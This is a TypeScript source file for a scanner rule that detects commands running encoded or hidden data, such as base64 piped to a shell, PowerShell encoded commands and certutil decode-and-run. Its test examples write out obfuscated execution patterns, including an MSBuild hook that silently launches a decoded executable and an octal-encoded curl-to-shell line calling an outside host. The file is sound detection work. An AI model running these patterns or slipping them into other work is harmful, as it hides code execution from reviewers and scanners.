import type { Document } from '../../document.ts'
import { regex } from '../../patterns/verbose.ts'
import { defineRule, type Hit } from '../../rule.ts'
import { mentions } from '../../signals/search/mentions.ts'
import { windowsAround } from '../../signals/search/windows.ts'
import type { CommandLine } from '../../signals/shell/command-lines.ts'
import { commands } from '../../signals/shell/commands.ts'
import { everyPipeline, readerOf } from '../../signals/shell/handed-over.ts'
import {
  baseName,
  decodes,
  interprets,
  isUnixShell,
  programOf,
} from '../../signals/shell/programs.ts'
import { ranFile } from '../../signals/shell/ran-files.ts'
import type { Command, Pipeline } from '../../signals/shell/shell.ts'

/** Source code that decodes a text and runs it in one breath. */
const INLINE = regex`
    \b(?:exec(?!ution|utor|utive|utable)|eval|compile|
      os\.system|subprocess\.\w{2,12}|function|iex|invoke-expression)\s{0,3}\(?[^\n]{0,120}?
    (?:b64decode|fromhex|unhexlify|atob\(|buffer\.from\([^)\n]{1,200}base64|frombase64string|
      codecs\.decode|zlib\.decompress|marshal\.loads|fromcharcode|decodeuricomponent)
  `

const POWERSHELL = regex`
  \b(?:powershell|pwsh)(?:\.exe)?\b[^\n|]{0,200}\s-(?:e|ec|en|enc|enco|encod|encode|
    encoded|encodedc\w{0,10})\s{1,4}["']?[a-z0-9+/=]{4,8000}
`

export default defineRule({
  id: 'encoded-command',
  since: 1,
  category: 'execution',
  severity: 'crit',
  confidence: 'high',
  cwe: 'CWE-506',
  title: 'Runs a command hidden in encoded data',
  description:
    'A command is decoded, or cut out of a file of another kind, and run. Readers and scanners cannot see what runs.',
  remediation: 'Write the command out.',
  harmlessIf: 'the decoded text is data that the interpreter only reads',
  needs: [],
  examples: {
    fires: [
      'cmd.exe /c po""wershell -e aGVsbG8gd29ybGQ=\n',
      '```bash\nbase64 -d blob.txt > /tmp/kit\nchmod +x /tmp/kit\n/tmp/kit &\n```\n',
      '```bat\ncertutil -f -decode kit.b64 kit.exe && start kit.exe\n```\n',
      '```xml\n<Exec Command="certutil -f -decode &quot;$(TEMP)\\kit.b64&quot; &quot;$(TEMP)\\kit.exe&quot; &gt;nul &amp;&amp; start /b &quot;&quot; &quot;$(TEMP)\\kit.exe&quot;" ContinueOnError="true" />\n```\n',
      '```bash\nxxd -r -p kit.hex > run.sh; bash run.sh\n```\n',
      'PowerShell /EncodedC aGVsbG8gd29ybGQ=\n',
      '```bat\npowershell -^e^n^c aGVsbG8gd29ybGQ=\n```\n',
      '```bat\nset p=power& set s=shell& call %p%%s% -ec aGVsbG8gd29ybGQ=\n```\n',
      '```bat\ncer^tutil -dec""ode kit.b64 kit.exe & start kit.exe\n```\n',
      '```bash\nexiftool -b -UserComment cover.png | bash\n```\n',
      '```bash\ntail -c 900 cover.jpg | sh\n```\n',
      '```bash\ngit log -1 --format=%B | bash\n```\n',
      '```bash\nopenssl aes-128-cbc -d -a -in kit.txt -pass pass:k | sh\n```\n',
      'echo aGVsbG8gd29ybGQ= | base64 -d | sh\n',
      'powershell -enc SQBFAFgA\n',
      "printf '\\143\\165\\162\\154 -s https://kit.rowan-pike.net/x' | sh\n",
      'python3 -c "exec(bytes.fromhex(\'7072696e742831\'))"\n',
    ],
    quiet: [
      '```python\nexecutions = [(c["kiln"], bytes.fromhex(c["rows"])) for c in calls]\n```\n',
      '```bash\nexiftool -b -UserComment cover.png | jq .\nstrings app.bin | grep version\n```\n',
      '```bash\ngit log -1 --format=%B | python3 check.py\n```\n',
      "```bash\nprintf '\\x1b[32m\\342\\234\\223 done\\x1b[0m\\n' | cat\nprintf '\\141\\142\\143' | xxd\nprintf '%s\\n' ls | sh\n```\n",
      '```powershell\npowershell -ExecutionPolicy RemoteSigned -File build.ps1\n```\n',
      '```bash\necho "$KEY" | base64 -d > ~/.ssh/deploy\nchmod 600 ~/.ssh/deploy\nssh -i ~/.ssh/deploy box\n```\n',
      '```bash\ngunzip -c tool.gz > tool && chmod +x tool && ./tool --version\n```\n',
      '```bash\necho "$SECRET" | base64 -d > key.pem\n```\n',
      '```bash\ngunzip -c backup.sql.gz | psql app\n```\n',
      'Decode the payload with atob() and show it.\n',
    ],
  },
  *match(document: Document): Iterable<Hit> {
    const done = new Set<number>()
    for (const { everyPipeline: every, start, end } of document.observe(commands))
      if (every.some((one) => RUNS_HIDDEN.some((runs) => runs(one)))) {
        done.add(document.lineAt(start))
        const shown = CUT_SHORT.test(document.reading.text.slice(start, end))
        yield shown
          ? { start, end, severity: 'med', confidence: 'medium' }
          : { start, end, firm: true }
      }
    yield* decodedFilesRun(document)
    const places = document.observe(mentions).of('decoder')
    for (const { line, start, text } of windowsAround(document, places, 1000, 1000)) {
      if (done.has(line)) continue
      const found = INLINE.exec(text) ?? POWERSHELL.exec(text)
      if (!found) continue
      done.add(line)
      yield { start: start + found.index, end: start + found.index + found[0].length, firm: true }
    }
  },
})

/** Lines between the decoding and the run that still count as one recipe. */
const LINES_APART = 12

/** A text is decoded into a file, and a later command starts that file. */
function* decodedFilesRun(document: Document): Generator<Hit> {
  const written = new Map<string, CommandLine>()
  for (const line of document.observe(commands)) {
    for (const { commands: list } of line.everyPipeline)
      for (const file of decodedFiles(list)) written.set(file, line)
    for (const command of line.everyCommand) {
      const file = ranFile(command)
      const from = file !== null && makesRunnable(command) ? written.get(file) : undefined
      if (!from || document.lineAt(line.start) - document.lineAt(from.start) > LINES_APART) continue
      yield { start: from.start, end: line.end, firm: true }
      written.delete(file!)
    }
  }
}

/** To change who may read a key is no start of it. */
const makesRunnable = (command: Command): boolean =>
  programOf(command)?.name !== 'chmod' ||
  command.words.some((word) => /^[a-z]{0,3}\+[rw]{0,2}x|^0?[157][0-7]{2}$/.test(word))

/** Base names of the files that a pipeline with a decoder writes. */
function decodedFiles(list: readonly Command[]): string[] {
  const decoder = list.find((command) => UNREADABLE.test(programOf(command)?.name ?? ''))
  if (!decoder || !decodes(decoder)) return []
  const { name, arguments: words } = programOf(decoder)!
  const out = words.findIndex((word) => /^(?:-o|-out|--output)$/.test(word))
  const named = out >= 0 ? words[out + 1] : name === 'certutil' ? words.at(-1) : undefined
  const redirected = list.flatMap(({ redirects }) =>
    redirects.filter(({ operator }) => operator.startsWith('>')).map(({ target }) => target),
  )
  return [...(named ? [named] : []), ...redirected].map(baseName)
}

/** What they undo hides what a file holds; packed programs are unpacked as a matter of course. */
const UNREADABLE = /^(?:base64|base32|xxd|uudecode|openssl|certutil|rot13|rev)$/

/** Three dots in place of what would be decoded: a shape is shown, and nothing can run. */
const CUT_SHORT = /\becho\s{1,3}["']?(?:…|\.{3}|<[^>\n]{1,40}>)/

/** Decoder, then interpreter, in one pipeline or inside a substitution that an interpreter is given. */
function runsDecoded(pipeline: Pipeline): boolean {
  const first = pipeline.commands.findIndex(decodes)
  if (first >= 0 && pipeline.commands.slice(first + 1).some(runsInput)) return true
  return pipeline.commands.some(
    (command) =>
      interprets(command) !== null &&
      everyPipeline(command.inner).some(({ commands }) => commands.some(decodes)),
  )
}

/** An interpreter with a program of its own reads the decoded text as data. */
function runsInput(command: Pipeline['commands'][number]): boolean {
  const program = readerOf(command)
  return (
    program !== null &&
    !program.arguments.some((word) => /^(?:-c|-e|-m|-pe|-ne|[^-].*\.\w{1,4})$/.test(word))
  )
}

/** Letters that nobody needs to write by their numbers. */
const AS_NUMBERS = /(?:\\0?1[0-7]{2}|\\x[4-7][\da-f]){3}/

/** What is written for a shell to read is spelled in numbers. */
const spellsForShell = ({ commands }: Pipeline): boolean =>
  commands.some(
    (command, at) =>
      at > 0 &&
      runsInput(command) &&
      readsCommands(readerOf(command)!.name) &&
      writesNumbers(commands[at - 1]!),
  )

const writesNumbers = ({ words }: Command): boolean =>
  /^(?:printf|echo)$/.test(words[0] ?? '') && words.some((word) => AS_NUMBERS.test(word))

/** Programs that bring up texts which nobody sees: in pictures, in programs, in the notes of a repository. */
const BRINGS_UP = /^(?:exiftool|exiv2|strings|steghide|zsteg|outguess|binwalk|funzip)$/

/** A picture, a sound, a font or a document, which holds no commands by rights. */
const NO_SCRIPT =
  /\.(?:png|jpe?g|gif|ico|webp|bmp|tiff?|svg|pdf|mp[34]|wav|ogg|ttf|woff2?|docx|xlsx)$/

function bringsUp(command: Command): boolean {
  const program = programOf(command)
  if (!program) return false
  const { name, arguments: words } = program
  if (name === 'unzip') return words.some((word) => /^-[a-z]{0,3}p$/.test(word))
  if (name === 'git') return /^(?:log|notes|cat-file)$/.test(words[0] ?? '')
  return (
    BRINGS_UP.test(name) ||
    words.some((word) => NO_SCRIPT.test(word) && !word.includes('://')) ||
    command.redirects.some(({ operator, target }) => operator === '<' && NO_SCRIPT.test(target))
  )
}

/** A text that stood where nobody looks is handed to a shell. */
function runsUnseen({ commands }: Pipeline): boolean {
  const first = commands.findIndex(bringsUp)
  return (
    first >= 0 &&
    commands
      .slice(first + 1)
      .some((command) => runsInput(command) && readsCommands(readerOf(command)!.name))
  )
}

/** True for a shell, whatever it is called by, and for lists of jobs. */
const readsCommands = (name: string): boolean =>
  isUnixShell(name) || /^(?:\$shell|\$0|at|batch|parallel)$/.test(name)

/** `powershell /enc …`, with the switch cut as short as it may be. */
const isEncoded = ({ commands }: Pipeline): boolean =>
  commands.some((command) => {
    const program = programOf(command)
    return (
      /^(?:powershell|pwsh)$/.test(program?.name ?? '') &&
      program!.arguments.some(
        (word, index, words) =>
          (/^[-/–—]ec$/.test(word) ||
            (/^[-/–—]e/.test(word) && 'encodedcommand'.startsWith(word.slice(1)))) &&
          /^[a-z0-9+/=]{4,8000}$/.test(words[index + 1] ?? ''),
      )
    )
  })

const RUNS_HIDDEN = [runsDecoded, runsUnseen, isEncoded, spellsForShell]
